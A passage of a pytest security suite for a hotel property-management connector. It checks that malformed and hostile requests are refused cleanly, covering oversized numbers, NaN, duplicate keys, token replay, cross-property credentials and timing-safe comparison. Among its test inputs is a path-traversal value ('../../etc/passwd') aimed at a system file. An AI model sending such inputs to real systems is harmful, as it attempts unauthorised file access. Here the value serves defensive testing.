        ("BOOKING", "arrival", BAD_DATETIMES),
        ("BOOKING", "departure", [*BAD_DATETIMES, ("2025-12-31T10:00:00", "before arrival")]),
        ("BOOKING", "pax", [(100, "100"), *[v for v in BAD_INTS if v[0] is not None]]),
        ("BOOKING", "booking_uid", NOT_TEXT),
        ("BOOKING", "GUEST_LIST", guest_values),
    ]
    cases = []
    for action, name, values in sweeps:
        for value, label in values:
            record = {"datetime": STAMP, "action": action, **valid[action], name: value}
            cases.append(Hostile(f"ingest {action}.{name} {label}", "ingest", dumps([dnd(), record]),
                                 statuses=(400,), names=name))
    two_guests = {"datetime": STAMP, "action": "BOOKING", **valid["BOOKING"], "GUEST_LIST": [guest, guest]}
    cases += [
        Hostile("ingest BOOKING two guests without account", "ingest", dumps(two_guests), names="account"),
        Hostile("ingest BOOKING checkin without room", "ingest",
                dumps({"datetime": STAMP, "action": "BOOKING", **valid["BOOKING"], "status": "checkin"}), names="room"),
        Hostile("ingest action missing", "ingest", dumps({"room": "101"}), names="action"),
        Hostile("ingest action number", "ingest", dumps({**dnd(), "action": 5}), names="action"),
        Hostile("ingest action unknown", "ingest", dumps({**dnd(), "action": "TELEPORT"}), names="action"),
        Hostile("ingest record a string", "ingest", dumps(["DND"]), names="(record)"),
        Hostile("ingest record a list", "ingest", dumps([[dnd()]]), names="(record)"),
        Hostile("ingest record for another property", "ingest", dumps(dnd(property="demo-resort")),
                names="property"),
    ]
    return cases


def test_wrong_values_for_every_field_class_are_refused_naming_the_field(deployment: Deployment) -> None:
    sweep(deployment, httppms_field_cases() + ingest_field_cases())


# --- numbers, duplicate keys, content types, routes ------------------------------------------------------


def number_cases() -> list[Hostile]:
    post = resort({"action": "POST", "room": "101", "post_type": "M", "article": "WA", "units": 1, "amount": 0})
    text = dumps(post).decode()
    booking = dumps([{"datetime": STAMP, "action": "BOOKING", "booking_uid": "b", "status": "expected",
                      "arrival": STAMP, "departure": STAMP, "pax": 0}]).decode()
    cases = []
    for literal in ("1e999", "-1e999", "NaN", "Infinity", "-Infinity", "1e308", "1" * 4_300):
        cases.append(Hostile(f"httppms amount {literal[:12]}", "httppms",
                             text.replace('"amount": 0', f'"amount": {literal}').encode(), statuses=(200,),
                             codes=(202,), names="amount"))
        cases.append(Hostile(f"ingest pax {literal[:12]}", "ingest",
                             booking.replace('"pax": 0', f'"pax": {literal}').encode(), statuses=(400,), names="pax"))
    return cases


def duplicate_key_cases() -> list[Hostile]:
    """The last of duplicate keys counts, for authentication and processing alike (json.loads)."""
    request = dumps(resort({"action": "GET_REQUEST"}))[:-1]
    return [
        Hostile("httppms duplicate property", "httppms", request + b', "property": "demo-hotel"}', statuses=(401,),
                codes=(204,)),  # demo-resort's token for demo-hotel: refused
        Hostile("httppms duplicate usertoken", "httppms", request + b', "usertoken": "guess"}', statuses=(401,),
                codes=(204,)),
        Hostile("httppms duplicate action", "httppms", request + b', "action": "FLY"}', statuses=(200,),
                codes=(201,), names="FLY"),
        Hostile("ingest duplicate action", "ingest", dumps(dnd())[:-1] + b', "action": "TELEPORT"}', names="action"),
        Hostile("ingest duplicate property", "ingest", dumps(dnd(property="demo-hotel"))[:-1]
                + b', "property": "demo-resort"}', names="property"),
    ]


def content_type_cases() -> list[Hostile]:
    record, request = dumps(dnd()), dumps(hotel({"action": "GET_REQUEST"}))
    form = b"action=GET_REQUEST&property=demo-hotel"
    cases = [Hostile(f"ingest as {ct}", "ingest", record, ct, statuses=(415,), names="content type")
             for ct in ("text/plain", XML, "multipart/form-data; boundary=x", "application/x-www-form-urlencoded",
                        "application/octet-stream", "application/jsonx", "json")]
    cases += [Hostile(f"ingest as {ct or 'no content type'}", "ingest", record, ct, statuses=(202,))
              for ct in ("application/json; charset=utf-8", "APPLICATION/JSON", "application/vnd.pms+json", "")]
    cases += [
        Hostile("httppms json as text/plain", "httppms", request, "text/plain", statuses=(200,), codes=(0,)),
        Hostile("httppms json without content type", "httppms", request, "", statuses=(200,), codes=(0,)),
        Hostile("httppms form data", "httppms", form, "application/x-www-form-urlencoded", statuses=(200,),
                codes=(200,), names="JSON"),
        Hostile("httppms multipart", "httppms", b"--x\r\n\r\n" + request + b"\r\n--x--",
                "multipart/form-data; boundary=x", statuses=(200,), codes=(200,)),
        Hostile("httppms xml as json", "httppms", xml_request(), "application/json", statuses=(200,), codes=(200,),
                names="JSON"),
        Hostile("httppms json as xml", "httppms", request, "text/xml; charset=utf-8", statuses=(200,), codes=(200,)),
        Hostile("httppms xml as soap+xml", "httppms", xml_request(), "application/soap+xml", statuses=(200,),
                codes=(0,)),
    ]
    return cases


@full_only
def test_numbers_duplicate_keys_and_content_types(deployment: Deployment) -> None:
    sweep(deployment, number_cases() + duplicate_key_cases() + content_type_cases())


# (what, URL path, route, path parameters, query, expected status)
HOSTILE_PATHS = [
    ("upper-case id", "/pms/DEMO-HOTEL/events", "/pms/{property}/events", {"property": "DEMO-HOTEL"}, None, 401),
    ("dot-dot id", "/pms/../demo-hotel/rooms", "/pms/{property}/rooms", {"property": "../demo-hotel"}, None, 401),
    ("nul in id", "/pms/demo-hotel%00/rooms", "/pms/{property}/rooms", {"property": "demo-hotel\x00"}, None, 401),
    ("space in id", "/pms/demo-hotel%20/rooms", "/pms/{property}/rooms", {"property": "demo-hotel "}, None, 401),
    ("10 000-character id", "/pms/x/rooms", "/pms/{property}/rooms", {"property": "x" * 10_000}, None, 401),
    ("10 000-character room", "/pms/demo-hotel/rooms/x", "/pms/{property}/rooms/{room}",
     {"property": "demo-hotel", "room": "r" * 10_000}, None, 404),
    ("dot-dot room", "/pms/demo-hotel/rooms/x", "/pms/{property}/rooms/{room}",
     {"property": "demo-hotel", "room": "../../etc/passwd"}, None, 404),
    ("fullwidth digits", "/pms/demo-hotel/inbound", "/pms/{property}/inbound", {"property": "demo-hotel"},
     {"limit": "\uff11\uff10"}, 400),
    ("hex", "/pms/demo-hotel/inbound", "/pms/{property}/inbound", {"property": "demo-hotel"}, {"after": "0x10"}, 400),
    ("leading space", "/pms/demo-hotel/inbound", "/pms/{property}/inbound", {"property": "demo-hotel"},
     {"limit": " 5"}, 400),
    ("exponent", "/pms/demo-hotel/inbound", "/pms/{property}/inbound", {"property": "demo-hotel"},
     {"limit": "1e2"}, 400),
]

HOSTILE_AUTHORIZATIONS = [
    "Bearer " + "k" * 1_000_000, "Basic " + "A" * 100_000, f"Bearer {DEMO_INGEST_KEY}\x00",
    f"Bearer\t{DEMO_INGEST_KEY}", f"Bearer {DEMO_INGEST_KEY[:-1]}", "Bearer " + DEMO_INGEST_KEY.upper(),
    f"Basic {DEMO_INGEST_KEY}", "Bearer ", "Bearer", "\x00", "",
]


@full_only
def test_hostile_paths_queries_and_authorization_headers_get_a_short_json_answer(deployment: Deployment) -> None:
    failures = []
    tried: list[tuple[str, dict[str, Any], int]] = []
    for what, path, route, params, query, status in HOSTILE_PATHS:
        method = "POST" if path.endswith("/events") else "GET"
        tried.append((what, http_event(method, path, route=route, path_parameters=params, query=query,
                                       body=dnd() if method == "POST" else None,
                                       headers={"authorization": f"Bearer {DEMO_INGEST_KEY}"}), status))
    for authorization in HOSTILE_AUTHORIZATIONS:
        event = ingest_event("demo-hotel", dnd())
        event["headers"]["authorization"] = authorization
        tried.append((f"authorization {authorization[:20]!r}", event, 401))
    for what, event, status in tried:
        started = time.thread_time()
        response = deployment.invoke(INGEST, event)
        cpu = time.thread_time() - started
        body = json.loads(response["body"])
        if (response["statusCode"] != status or not body.get("error") or cpu > CPU_LIMIT
                or (status == 401 and body != INGEST_AUTH_FAILED) or len(response["body"]) > 300):
            failures.append(f"{what}: {response['statusCode']} {response['body'][:200]} ({cpu:.2f} s)")
    assert not failures, "\n".join(failures)  # a 300-character answer never echoes a 10 000-character input


# --- MD5 tokens: replay and clock skew ----------------------------------------------------------------------


def md5_request(stamp: str, *, user: str = DEMO_USER, password: str = DEMO_PASSWORD, pid: str = "demo-hotel",
                **fields: Any) -> dict[str, Any]:
    return {"datetime": stamp, "user": user, "usertoken": md5_token(user, md5_stamp(stamp), password),
            "action": "GET_REQUEST", "property": pid, **fields}


@contextlib.contextmanager
def clock(monkeypatch: pytest.MonkeyPatch, moment: datetime) -> Iterator[None]:
    """The handlers' clock (api.utc_now) stopped at ``moment``."""
    with monkeypatch.context() as patch:
        patch.setattr(api, "utc_now", lambda: moment)
        api.httppms_dependencies.cache_clear()
        yield
    api.httppms_dependencies.cache_clear()


def code_of(deployment: Deployment, body: dict[str, Any]) -> int:
    return int(json.loads(deployment.invoke(HTTPPMS, httppms_event(body))["body"])["code"])


def test_a_replayed_md5_token_is_accepted_within_the_window_by_design(deployment: Deployment) -> None:
    """DESIGN.md: "An MD5 token is only valid within a configurable window around the property's local time
    (replay protection)" — the window is the whole protection; a token is not single-use. pmslink resends a
    request after a link error (400/401/500), so a single-use token would refuse its own retries.

    What a replay within the window can do: a replayed charge is answered from the first answer and stored
    once (the inbound dedupe); a replayed GET_REQUEST is a new poll and takes the next records (with
    ``delivery: remove`` they then leave the queue for whoever replayed it). Outside the window: code 205.
    """
    deployment.invoke(INGEST, ingest_event("demo-hotel", [dnd("1"), dnd("2")]))
    captured = hotel({"action": "GET_REQUEST"})
    first = json.loads(deployment.invoke(HTTPPMS, httppms_event(captured))["body"])
    deployment.invoke(INGEST, ingest_event("demo-hotel", dnd("3")))
    replayed = json.loads(deployment.invoke(HTTPPMS, httppms_event(captured))["body"])

    assert [r["room"] for r in first["ACTION_LIST"]] == ["1", "2"]
    assert [r["room"] for r in replayed["ACTION_LIST"]] == ["3"]  # the replay is served: the window allows it

    tap = deployment.subscribe_bus()
    charge = hotel({"action": "POST", "room": "101", "post_type": "M", "article": "WA", "units": 1, "amount": 9.5})
    answers = {json.dumps(json.loads(deployment.invoke(HTTPPMS, httppms_event(charge))["body"])) for _ in range(3)}
    assert answers == {json.dumps({"code": 0, "description": "OK"})}
    assert len(tap.drain()) == 1  # stored and published once


def test_md5_window_edges_through_the_handler(deployment: Deployment, monkeypatch: pytest.MonkeyPatch) -> None:
    sent = datetime(2026, 6, 1, 10, 0, 0, tzinfo=ZoneInfo("Europe/Madrid"))
    failures = []
    for skew in (-301, -300, -1, 0, 1, 300, 301, 3_600, -86_400):
        with clock(monkeypatch, sent.astimezone(UTC) + timedelta(seconds=skew)):
            response = deployment.invoke(HTTPPMS, httppms_event(md5_request("2026-06-01T10:00:00")))
        body = json.loads(response["body"])
        expected = 0 if abs(skew) <= 300 else 205
        if response["statusCode"] != 200 or body["code"] != expected or (
                expected and not ("datetime" in body["description"] and "±300 s" in body["description"])):
            failures.append(f"skew {skew} s: {response['statusCode']} {body}")
    assert not failures, "\n".join(failures)


# (zone, the token's local datetime, now in UTC, expected code). Madrid: 2026-03-29 02:00 CET -> 03:00 CEST,
# 2026-10-25 03:00 CEST -> 02:00 CET. Lord Howe shifts by 30 minutes (2026-04-05 02:00 -> 01:30).
DST_CASES = [
    ("Europe/Madrid", "2026-03-29T01:59:50", datetime(2026, 3, 29, 1, 0, 30, tzinfo=UTC), 0),  # CET, 40 s ago
    ("Europe/Madrid", "2026-03-29T03:00:30", datetime(2026, 3, 29, 1, 0, 30, tzinfo=UTC), 0),  # CEST, now
    ("Europe/Madrid", "2026-03-29T02:00:30", datetime(2026, 3, 29, 1, 0, 30, tzinfo=UTC), 0),  # in the gap: CET read
    ("Europe/Madrid", "2026-03-29T04:00:30", datetime(2026, 3, 29, 1, 0, 30, tzinfo=UTC), 205),  # an hour ahead
    ("Europe/Madrid", "2026-10-25T02:30:00", datetime(2026, 10, 25, 0, 30, tzinfo=UTC), 0),  # first 02:30 (CEST)
    ("Europe/Madrid", "2026-10-25T02:30:00", datetime(2026, 10, 25, 1, 30, tzinfo=UTC), 0),  # second 02:30 (CET)
    ("Europe/Madrid", "2026-10-25T03:30:00", datetime(2026, 10, 25, 1, 30, tzinfo=UTC), 205),  # an hour ahead
    ("Europe/Madrid", "2026-10-25T01:30:00", datetime(2026, 10, 25, 1, 30, tzinfo=UTC), 205),  # two hours behind
    ("Australia/Lord_Howe", "2026-04-05T01:45:00", datetime(2026, 4, 4, 15, 15, tzinfo=UTC), 0),  # second 01:45
    ("Australia/Lord_Howe", "2026-04-05T01:45:00", datetime(2026, 4, 4, 14, 45, tzinfo=UTC), 0),  # first 01:45
    ("Pacific/Kiritimati", "2026-06-02T00:00:00", datetime(2026, 6, 1, 10, 0, tzinfo=UTC), 0),  # UTC+14: tomorrow
    ("Pacific/Kiritimati", "2026-06-01T10:00:00", datetime(2026, 6, 1, 10, 0, tzinfo=UTC), 205),  # the UTC clock
    ("Pacific/Pago_Pago", "2026-05-31T23:00:00", datetime(2026, 6, 1, 10, 0, tzinfo=UTC), 0),  # UTC-11: yesterday
    ("Pacific/Pago_Pago", "0001-01-01T00:00:00", datetime(2026, 6, 1, 10, 0, tzinfo=UTC), 205),
    ("Pacific/Kiritimati", "9999-12-31T23:59:59", datetime(2026, 6, 1, 10, 0, tzinfo=UTC), 205),
    ("Asia/Tokyo", "0001-01-01T00:00:00", datetime(2026, 6, 1, 10, 0, tzinfo=UTC), 205),
    ("America/New_York", "9999-12-31T23:59:59", datetime(2026, 6, 1, 10, 0, tzinfo=UTC), 205),
]


def test_md5_tokens_around_dst_changes_and_far_time_zones(deployment: Deployment,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    failures = []
    for zone in sorted({z for z, *_ in DST_CASES}):
        deployment.add_property({"id": zone.lower().replace("/", "-").replace("_", "-"), "name": zone,
                                 "timezone": zone, "ingest": {"api_key": "k" * 24},
                                 "httppms": {"auth": "md5", "user": DEMO_USER, "password": DEMO_PASSWORD}})
    for zone, stamp, now, expected in DST_CASES:
        pid = zone.lower().replace("/", "-").replace("_", "-")
        with clock(monkeypatch, now):
            response = deployment.invoke(HTTPPMS, httppms_event(md5_request(stamp, pid=pid)))
        got = json.loads(response["body"])
        if response["statusCode"] != 200 or got["code"] != expected:
            failures.append(f"{zone} {stamp} at {now:%Y-%m-%dT%H:%M:%SZ}: {response['statusCode']} {got}")
    assert not failures, "\n".join(failures)


# --- one property's credentials against another -----------------------------------------------------------

BASIC_INN = {"id": "basic-inn", "name": "Basic Inn", "timezone": "UTC",
             "ingest": {"api_key": "basic-inn-key-0123456789"},
             "httppms": {"auth": "basic", "user": DEMO_USER, "password": "basic-inn-password"}}
MD5_TWIN = {"id": "md5-twin", "name": "Twin", "timezone": "Europe/Madrid",
            "ingest": {"api_key": "md5-twin-key-0123456789"},
            "httppms": {"auth": "md5", "user": DEMO_USER, "password": "twin-password"}}


def foreign_credentials() -> list[tuple[str, dict[str, Any], str | None, str | None]]:
    """(label, body, Authorization header, URL property): each a property's valid credentials aimed at another
    property, next to plain wrong or unknown credentials, which must all read the same."""
    demo_basic = basic(DEMO_USER, DEMO_PASSWORD)
    inn_basic = basic(DEMO_USER, "basic-inn-password")
    get = {"action": "GET_REQUEST"}
    return [
        ("demo-hotel md5 for demo-resort", hotel({**get, "property": "demo-resort"}), None, None),
        ("demo-hotel md5 for demo-resort by URL", {k: v for k, v in hotel(get).items() if k != "property"}, None,
         "demo-resort"),
        ("demo-hotel md5 for md5-twin (same user)", hotel({**get, "property": "md5-twin"}), None, None),
        ("demo-hotel md5 for basic-inn", hotel({**get, "property": "basic-inn"}), None, None),
        ("demo-resort token for demo-hotel", resort({**get, "property": "demo-hotel"}), None, None),
        ("demo-resort token for basic-inn by URL", resort(get), None, "basic-inn"),
        ("basic-inn basic for demo-hotel", {"datetime": STAMP, **get, "property": "demo-hotel"}, inn_basic, None),
        ("basic-inn basic for demo-resort", {"datetime": STAMP, **get, "property": "demo-resort"}, inn_basic, None),
        ("demo-hotel password as basic for basic-inn", {"datetime": STAMP, **get, "property": "basic-inn"},
         demo_basic, None),
        ("body and URL name different properties", resort(get), None, "demo-hotel"),
        ("unknown property", hotel({**get, "property": "no-such-hotel"}), None, None),
        ("unknown property by URL", resort(get), None, "no-such-hotel"),
        ("wrong md5 password", signed({**get, "property": "demo-hotel"}, password="wrong"), None, None),
        ("wrong token", {**resort(get), "usertoken": "wrong-token-000"}, None, None),
        ("wrong basic password", {"datetime": STAMP, **get, "property": "basic-inn"}, basic(DEMO_USER, "x"), None),
    ]


def test_one_propertys_httppms_credentials_read_like_unknown_ones_for_another(deployment: Deployment) -> None:
    deployment.add_property(BASIC_INN)
    deployment.add_property(MD5_TWIN)
    deployment.invoke(INGEST, ingest_event("demo-hotel", dnd("secret-room")))
    seen: dict[str, set[tuple[int, str, str]]] = {"json": set(), "xml": set()}
    for label, body, authorization, path_property in foreign_credentials():
        headers = {"authorization": authorization} if authorization else {}
        as_json = deployment.invoke(HTTPPMS, httppms_event(body, headers=headers, property_in_path=path_property))
        as_xml = deployment.invoke(HTTPPMS, httppms_event(None, raw_body=f"<request>{xml_fields(body)}</request>",
                                                          headers={**headers, "content-type": XML},
                                                          property_in_path=path_property))
        for kind, response in (("json", as_json), ("xml", as_xml)):
            assert response["statusCode"] == 401, (label, kind, response["body"])
            assert "secret-room" not in response["body"]
            seen[kind].add((response["statusCode"], response["headers"]["Content-Type"], response["body"]))
    # One answer per format, whichever property the credentials belong to, or none: no oracle.
    assert len(seen["json"]) == 1 and len(seen["xml"]) == 1, seen
    assert json.loads(next(iter(seen["json"]))[2]) == AUTH_FAILED


def test_one_propertys_ingest_key_reads_like_an_unknown_one_for_another(deployment: Deployment) -> None:
    deployment.add_property(BASIC_INN)
    keys = {"demo-hotel": DEMO_INGEST_KEY, "demo-resort": RESORT_INGEST_KEY, "basic-inn": "basic-inn-key-0123456789"}
    routes = [("POST", "/pms/{p}/events"), ("GET", "/pms/{p}/inbound"), ("GET", "/pms/{p}/rooms"),
              ("GET", "/pms/{p}/rooms/101")]
    answers = set()
    for target in [*keys, "no-such-hotel"]:
        for owner, key in [*keys.items(), ("nobody", "wrong-key-0123456789abcdef")]:
            if owner == target:
                continue
            for method, template in routes:
                path = template.format(p=target)
                route = template.format(p="{property}").replace("/101", "/{room}")
                params = {"property": target, **({"room": "101"} if "{room}" in route else {})}
                event = http_event(method, path, route=route, path_parameters=params, body=dnd() if method == "POST"
                                   else None, headers={"authorization": f"Bearer {key}"})
                response = deployment.invoke(INGEST, event)
                answers.add((response["statusCode"], response["headers"]["Content-Type"], response["body"]))
    assert len(answers) == 1, answers
    status, _, body = answers.pop()
    assert (status, json.loads(body)) == (401, INGEST_AUTH_FAILED)


# --- constant-time comparison ---------------------------------------------------------------------------------


def test_every_secret_reaches_hmac_compare_digest_through_the_handlers(deployment: Deployment,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Each credential check the handlers make hands the configured secret to hmac.compare_digest (the
    timing of == would tell an attacker how much of a guess was right), also when the guess is wrong."""
    deployment.add_property(BASIC_INN)
    compared: list[tuple[bytes, bytes]] = []
    real = hmac.compare_digest

    def recording(a: Any, b: Any) -> bool:
        compared.append((bytes(a, "utf-8") if isinstance(a, str) else a, bytes(b, "utf-8") if isinstance(b, str)
                         else b))
        return real(a, b)

    monkeypatch.setattr("pms_connector.auth.hmac.compare_digest", recording)
    request = hotel({"action": "GET_REQUEST"})
    expected_md5 = request["usertoken"]
    checks = [
        ("md5 right", HTTPPMS, httppms_event(request), expected_md5),
        ("md5 wrong", HTTPPMS, httppms_event({**request, "usertoken": "0" * 32}), expected_md5),
        ("token right", HTTPPMS, httppms_event(resort({"action": "GET_REQUEST"})), RESORT_TOKEN),
        ("token wrong", HTTPPMS, httppms_event({**resort({"action": "GET_REQUEST"}), "usertoken": "x" * 20}),
         RESORT_TOKEN),
        ("basic right", HTTPPMS, httppms_event({"datetime": STAMP, "action": "GET_REQUEST", "property": "basic-inn"},
                                               headers={"authorization": basic(DEMO_USER, "basic-inn-password")}),
         "basic-inn-password"),
        ("basic wrong", HTTPPMS, httppms_event({"datetime": STAMP, "action": "GET_REQUEST", "property": "basic-inn"},
                                               headers={"authorization": basic(DEMO_USER, "guess")}),
         "basic-inn-password"),
        ("ingest right", INGEST, ingest_event("demo-hotel", dnd()), DEMO_INGEST_KEY),
        ("ingest wrong", INGEST, ingest_event("demo-hotel", dnd(), key="guess-0123456789abcdef"), DEMO_INGEST_KEY),
        ("ingest other property's key", INGEST, ingest_event("demo-hotel", dnd(), key=RESORT_INGEST_KEY),
         DEMO_INGEST_KEY),
    ]
    failures = []
    for label, function, event, secret in checks:
        compared.clear()
        deployment.invoke(function, event)
        if not any(secret.encode() in pair for pair in compared):
            failures.append(f"{label}: the secret was not compared with hmac.compare_digest ({len(compared)} calls)")
    compared.clear()
    deployment.invoke(HTTPPMS, httppms_event(hotel({"action": "GET_REQUEST", "property": "no-such-hotel"})))
    if not compared:
        failures.append("unknown property: no comparison at all (answers faster than a wrong password)")
    assert not failures, "\n".join(failures)


def test_no_secret_is_compared_with_an_operator() -> None:
    """Nowhere in the product is a configured secret (``.get_secret_value()``) an operand of ==, !=, in, <..."""
    import ast
    from pathlib import Path

    from tests.conftest import ROOT

    def reads_secret(node: ast.AST) -> bool:
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "len":
            return False  # the length of a secret is compared in config validation, not the secret
        return any(isinstance(sub, ast.Attribute) and sub.attr == "get_secret_value" for sub in ast.walk(node))

    offenders = []
    for source in [*(ROOT / "layers" / "pms_connector").rglob("*.py"), *(ROOT / "functions").rglob("*.py")]:
        tree = ast.parse(source.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Compare):
                operands = [node.left, *node.comparators]
                if any(reads_secret(operand) for operand in operands):
                    offenders.append(f"{Path(source).relative_to(ROOT)}:{node.lineno}")
    assert not offenders, offenders


@full_only  # timing
def test_a_wrong_key_takes_as_long_whichever_character_differs() -> None:
    """Coarse sanity, full run only (timing is noisy here): with a 1 MB key, a comparison that stops at the
    first difference written in Python (a character loop, a prefix check) makes a guess wrong in its last
    character ~50x slower than one wrong in its first. It cannot tell == from compare_digest (memcmp is lost in
    the O(n) decoding around it): test_every_secret_reaches_hmac_compare_digest_through_the_handlers does."""
    from pms_connector.auth import check_ingest_key
    from pms_connector.config import parse_property
    from pms_connector.errors import AuthenticationFailed

    key = "k" * 1_000_000
    prop = parse_property({"id": "timing", "name": "t", "timezone": "UTC", "ingest": {"api_key": key},
                           "httppms": {"auth": "token", "token": "t" * 16}})
    guesses = {"first": "x" + key[1:], "last": key[:-1] + "x"}

    def fastest(guess: str) -> float:
        best = float("inf")
        for _ in range(30):
            started = time.perf_counter()
            with contextlib.suppress(AuthenticationFailed):
                check_ingest_key(prop, f"Bearer {guess}")
            best = min(best, time.perf_counter() - started)
        return best

    first, last = fastest(guesses["first"]), fastest(guesses["last"])
    assert 0.5 < first / last < 2, (first, last)


# --- product bugs found by this sweep (each test states the behaviour expected) ------------------------------
# Each is one test over all its inputs: it passes (and, strict, fails the run as XPASS) once every input is
# handled, so the xfail mark comes off with the fix.


def unclear(deployment: Deployment, cases: list[Hostile]) -> list[str]:
    """The cases that did not get a clear refusal, with what went wrong."""
    return [f"{case.name}: {judge(case, answer)} {answer.status} {answer.text[:160]!r}"
            for case in cases if judge(case, answer := send(deployment, case))]


def test_a_number_too_long_for_python_is_refused_not_a_5xx(deployment: Deployment) -> None:
    digits = "1" * 4_301
    failures = unclear(deployment, [
        Hostile("ingest body", "ingest", dumps(dnd())[:-1] + f', "x": {digits}}}'.encode(), statuses=(400,),
                names="x"),
        Hostile("httppms body", "httppms", dumps(resort({"action": "GET_REQUEST"}))[:-1]
                + f', "x": {digits}}}'.encode(), statuses=(200,), codes=(202,), names="x"),
    ])
    inbound = deployment.invoke(INGEST, http_event(  # GET /pms/{property}/inbound?after=<digits>
        "GET", "/pms/demo-hotel/inbound", route="/pms/{property}/inbound", path_parameters={"property": "demo-hotel"},
        query={"after": digits}, headers={"authorization": f"Bearer {DEMO_INGEST_KEY}"}))
    if inbound["statusCode"] != 400 or "after" not in inbound["body"]:
        failures.append(f"inbound ?after=: {inbound['statusCode']} {inbound['body']}")
    assert not failures, "\n".join(failures)


def strict_json(text: str) -> Any:
    """RFC 8259 JSON: NaN and Infinity are not JSON (Python's json writes and reads them by default)."""
    def refuse(constant: str) -> Any:
        raise ValueError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


def test_nan_and_infinity_never_leave_the_connector_as_json(deployment: Deployment) -> None:
    from pms_connector import aws

    details: list[str] = []
    aws.events().meta.events.register("provide-client-params.events.PutEvents",
                                      lambda params, **_: details.extend(e["Detail"] for e in params["Entries"]))
    failures = []
    for literal in ("NaN", "Infinity", "-Infinity", "1e999"):
        details.clear()
        answers = {
            "ingest": deployment.invoke(INGEST, ingest_event(
                "demo-hotel", None, raw_body=dumps(dnd())[:-1].decode() + f', "x": {literal}}}')),
            "GET_REQUEST": deployment.invoke(HTTPPMS, httppms_event(hotel({"action": "GET_REQUEST"}))),
            "DND request": deployment.invoke(HTTPPMS, httppms_event(
                None, raw_body=dumps(hotel(dnd(literal)))[:-1].decode() + f', "x": {literal}}}')),
            "inbound page": deployment.invoke(INGEST, http_event(
                "GET", "/pms/demo-hotel/inbound", route="/pms/{property}/inbound",
                path_parameters={"property": "demo-hotel"}, headers={"authorization": f"Bearer {DEMO_INGEST_KEY}"})),
        }
        texts = {**{k: v["body"] for k, v in answers.items()}, **{f"bus event {n}": d for n, d in enumerate(details)}}
        for where, text in texts.items():
            try:
                strict_json(text)
            except ValueError as exc:
                failures.append(f"{literal}: {where}: {exc}")
    assert not failures, "\n".join(failures)


def test_a_lone_surrogate_is_refused_not_a_5xx(deployment: Deployment) -> None:
    record, request = dumps(dnd())[:-1], dumps(hotel(dnd()))[:-1]
    failures = unclear(deployment, [
        Hostile("ingest \\ud800 escape", "ingest", record + b', "x": "\\ud800"}', statuses=(400,)),
        Hostile("ingest CESU-8 bytes", "ingest", record + b', "x": "\xed\xa0\x80"}', statuses=(400,)),
        Hostile("httppms extra field", "httppms", request + b', "x": "\\ud800"}', statuses=(200,)),
        Hostile("httppms unknown action", "httppms",
                dumps(resort({"action": "FLY"})).replace(b"FLY", b"\\ud800"), statuses=(200,)),
    ])
    assert not failures, "\n".join(failures)


UNWRITABLE_IN_XML = {"NUL": {"note": "a\u0000b"}, "control character": {"note": "\u0001"},
                     "key starting with a digit": {"1st": "x"}, "empty key": {"": "x"}, "key with a space": {"a b": 1},
                     "nesting 40": {"deep": json.loads("[" * 40 + "]" * 40)}}


@pytest.mark.parametrize("delivery", ["remove", "confirm"])
def test_a_record_xml_cannot_carry_is_not_lost_to_an_xml_poller(deployment: Deployment, delivery: str) -> None:
    from lxml import etree

    pid, key = ("demo-hotel", DEMO_INGEST_KEY) if delivery == "remove" else ("demo-resort", RESORT_INGEST_KEY)
    poll = hotel if pid == "demo-hotel" else resort
    failures = []
    for what, extra in UNWRITABLE_IN_XML.items():
        ingested = deployment.invoke(INGEST, ingest_event(pid, [dnd("1"), dnd("2", **extra)], key=key))
        expected = 2 if ingested["statusCode"] == 202 else 0  # refusing such a record at ingest is a fix too
        answer = deployment.invoke(HTTPPMS, httppms_event(
            None, raw_body=f"<request>{xml_fields(poll({'action': 'GET_REQUEST'}))}</request>",
            headers={"content-type": XML}))
        if answer["statusCode"] != 200:
            failures.append(f"{what}: the XML GET_REQUEST answered {answer['statusCode']} {answer['body'][-80:]!r}")
            continue
        doc = etree.fromstring(answer["body"].encode())
        if len(doc.findall("ACTION_LIST/record")) != expected:
            failures.append(f"{what}: {len(doc.findall('ACTION_LIST/record'))} records delivered, {expected} sent")
        if doc.findtext("batch"):  # confirm delivery: confirm it, so the next input starts from an empty queue
            deployment.invoke(HTTPPMS, httppms_event(poll({"action": "GET_REQUEST", "confirm": doc.findtext("batch")})))
    assert not failures, "\n".join(failures)


def test_every_accepted_request_fits_in_one_eventbridge_event(deployment: Deployment) -> None:
    from pms_connector import aws

    entry_sizes: list[int] = []

    def measure(params: dict[str, Any], **_: Any) -> None:
        # https://docs.aws.amazon.com/eventbridge/latest/userguide/eb-putevent-size.html
        for entry in params["Entries"]:
            entry_sizes.append(sum(len(str(entry.get(k, "")).encode()) for k in ("Source", "DetailType", "Detail"))
                               + sum(len(r.encode()) for r in entry.get("Resources", [])) + 14 * ("Time" in entry))

    aws.events().meta.events.register("provide-client-params.events.PutEvents", measure)
    request = hotel(dnd(note=""))
    size = len(json.dumps(request, separators=(",", ":")).encode())
    request["note"] = "x" * (HTTPPMS_MAX_BODY_BYTES - size)
    response = deployment.invoke(HTTPPMS, httppms_event(None, raw_body=json.dumps(request, separators=(",", ":"))))
    code = json.loads(response["body"])["code"]
    assert code == 206 or (code == 0 and max(entry_sizes) <= 262_144), (code, entry_sizes)


def test_both_spellings_of_a_field_are_validated(deployment: Deployment) -> None:
    guest = {"uid": "g", "name": "A", "surname": "B", "language": "es", "acontact": True, "allow_contact": "x" * 5_000}
    booking = {"datetime": STAMP, "action": "BOOKING", "booking_uid": "b", "status": "expected", "arrival": STAMP,
               "departure": STAMP, "GUEST_LIST": [guest]}
    post = resort({"action": "POST", "room": "1", "post_type": "M", "article": "WA", "units": 1, "amount": 1,
                   "Amount": "lots"})
    failures = unclear(deployment, [
        Hostile("RS record roomstatus", "ingest", dumps({**dnd(), "action": "RS", "status": "C", "roomstatus": 123})),
        Hostile("guest allow_contact", "ingest", dumps(booking)),
        Hostile("POST Amount", "httppms", dumps(post), statuses=(200,), codes=(202,)),
        Hostile("RS request roomstatus", "httppms", dumps(resort({"action": "RS", "room": "1", "status": "C",
                                                                  "roomstatus": ["x"] * 100})),
                statuses=(200,), codes=(202,)),
    ])
    assert not failures, "\n".join(failures)


def test_a_wake_up_at_the_end_of_time_is_refused_not_a_5xx(deployment: Deployment) -> None:
    from tests.conftest import property_document

    cases = []
